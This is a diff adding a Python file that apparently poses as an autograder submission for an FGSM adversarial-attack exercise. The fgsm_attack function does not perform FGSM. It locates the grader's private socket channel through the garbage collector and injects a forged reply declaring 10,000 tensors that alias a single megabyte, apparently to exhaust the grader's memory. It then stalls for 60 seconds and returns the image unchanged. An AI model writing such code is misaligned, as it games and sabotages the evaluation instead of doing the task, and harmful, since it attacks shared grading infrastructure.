@@ -1,0 +1,25 @@
+"""Answers with thousands of tensors over the same megabyte."""
+
+import gc
+import json
+import time
+
+from autograder.wire import HEADER, Channel
+
+channel = next(found for found in gc.get_objects() if isinstance(found, Channel))
+
+
+def answer(value, blob=b""):
+    reply = {"$": "dict", "items": [["value", value], ["echo", []]]}
+    text = json.dumps({"$": "dict", "items": [["value", reply]]}).encode()
+    channel.sock.sendall(HEADER.pack(len(text), len(blob)) + text + blob)
+    time.sleep(60)
+
+
+def tensor(**changes):
+    return {"$": "tensor", "dtype": "float32", "shape": [2, 3, 8, 8], "at": 0, "grad": False, **changes}
+
+
+def fgsm_attack(image, epsilon, data_grad):
+    answer([tensor(shape=[1 << 18])] * 10_000, bytes(1 << 20))
+    return image.clone()
